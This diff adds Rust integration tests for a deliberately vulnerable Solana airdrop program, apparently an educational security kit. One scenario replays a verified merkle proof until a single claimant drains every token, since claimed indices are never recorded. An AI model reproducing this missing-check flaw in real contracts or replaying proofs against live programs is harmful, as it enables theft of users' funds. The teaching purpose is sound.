@@ -0,0 +1,129 @@
+// Integration tests for DROP-VULNERABLE program
+//
+// WARNING: These tests demonstrate intentional security vulnerabilities for educational purposes.
+// These exploits show what can happen when proper security checks are missing.
+//
+// HOW TO RUN THESE TESTS:
+// From the project root directory:
+//   cd programs/drop/drop-vulnerable
+//   cargo test-sbf
+//
+// Or to run a specific test:
+//   cargo test-sbf -- test_name
+//
+// Or with output logging:
+//   cargo test-sbf -- --nocapture
+
+mod utils;
+
+use litesvm::types::TransactionResult;
+use solana_sdk::signature::Signer;
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use utils::*;
+
+// EXPLOIT: V001 - Claimed indices never recorded
+// Demonstrates: One claimant replays their proof and takes everyone's allocation
+struct DoubleClaim;
+
+impl ExploitScenario for DoubleClaim {
+    type State = DropScenario;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "Double Claim - Missing Claimed Bitmap",
+            severity: Severity::Critical,
+            lesson: "Record every paid index and reject it on sight: a proof is not a receipt",
+        }
+    }
+
+    fn setup(&self) -> DropScenario {
+        println!("This test demonstrates how a merkle proof that is verified but never");
+        println!("recorded can be submitted again and again until the airdrop is empty.");
+        println!();
+
+        let scenario = setup_drop_scenario();
+        println!("[Setup] Allocations: claimant 0 = 100, claimant 1 = 200, claimant 2 = 300");
+        println!("[Setup] Vault holds {} tokens", token_balance(&scenario.svm, &scenario.vault) / ONE_TOKEN);
+        scenario
+    }
+
+    fn exploit(&self, scenario: &mut DropScenario) -> TransactionResult {
+        println!();
+        println!("[EXPLOIT] Claimant 0 claims their 100 tokens");
+        let ix = scenario.claim_ix(0);
+        send_ix(&mut scenario.svm, ix, &scenario.claimants[0]).expect("First claim should succeed");
+
+        println!("[EXPLOIT] Claimant 0 replays the same proof");
+        println!("[EXPLOIT] In secure version, this should FAIL with AlreadyClaimed");
+        let ix = scenario.claim_ix(0);
+        send_ix(&mut scenario.svm, ix, &scenario.claimants[0])
+    }
+
+    fn assert_impact(&self, scenario: &mut DropScenario) -> u64 {
+        let attacker = scenario.claimants[0].pubkey();
+
+        let mut replays = 1;
+        while token_balance(&scenario.svm, &scenario.vault) >= ALLOCATIONS[0] {
+            let ix = scenario.claim_ix(0);
+            let result = send_ix(&mut scenario.svm, ix, &scenario.claimants[0]);
+            assert!(result.is_ok(), "Vulnerable version accepts replayed proofs: {:?}", result.err());
+            replays += 1;
+        }
+
+        println!();
+        println!("[RESULT] Replayed claims: {}", replays);
+        assert_eq!(replays, 5);
+        assert_eq!(scenario.balance_of(&attacker), MAX_TOTAL_CLAIM);
+        assert_eq!(token_balance(&scenario.svm, &scenario.vault), 0);
+        assert_eq!(get_claimed(&scenario.svm, &scenario.distributor), (MAX_TOTAL_CLAIM, 6));
+        println!("[IMPACT] Claimant 0 received all 600 tokens instead of 100");
+
+        let ix = scenario.claim_ix(1);
+        assert!(send_ix(&mut scenario.svm, ix, &scenario.claimants[1]).is_err(), "Vault is empty");
+        println!("[IMPACT] Claimant 1's valid 200-token claim now fails");
+
+        MAX_TOTAL_CLAIM - ALLOCATIONS[0]
+    }
+}
+
+#[test]
+fn test_exploit_double_claim() {
+    run_exploit(&DoubleClaim);
+}
+
+#[test]
+fn test_all_basic_operations_work() {
+    // Sanity check: the happy path still works in the vulnerable version
+    println!("\n[TEST START] test_all_basic_operations_work - Normal airdrop lifecycle");
+
+    let mut scenario = setup_drop_scenario();
+    assert_eq!(token_balance(&scenario.svm, &scenario.vault), MAX_TOTAL_CLAIM);
+    println!("[Success] Distributor funded with 600 tokens");
+
+    let ix = build_claim_ix(
+        &scenario.claimants[1].pubkey(),
+        &scenario.distributor,
+        &scenario.mint,
+        1,
+        ALLOCATIONS[1] * 2,
+        &scenario.tree.proof(1),
+    );
+    assert!(send_ix(&mut scenario.svm, ix, &scenario.claimants[1]).is_err(), "Inflated claim should fail");
+    println!("[Success] Proofs are still verified");
+
+    for index in 0..ALLOCATIONS.len() {
+        let ix = scenario.claim_ix(index);
+        send_ix(&mut scenario.svm, ix, &scenario.claimants[index]).expect("Claim should succeed");
+        assert_eq!(scenario.balance_of(&scenario.claimants[index].pubkey()), ALLOCATIONS[index]);
+    }
+    assert_eq!(token_balance(&scenario.svm, &scenario.vault), 0);
+    println!("[Success] All three claimants received their allocations");
+
+    advance_time(&mut scenario.svm, CLAIM_WINDOW);
+    let ix = build_clawback_ix(&scenario.admin.pubkey(), &scenario.distributor, &scenario.mint);
+    assert!(send_ix(&mut scenario.svm, ix, &scenario.admin).is_err(), "Nothing left to claw back");
+    println!("[Success] Clawback of an empty vault rejected");
+
+    println!("[TEST END] test_all_basic_operations_work");
+}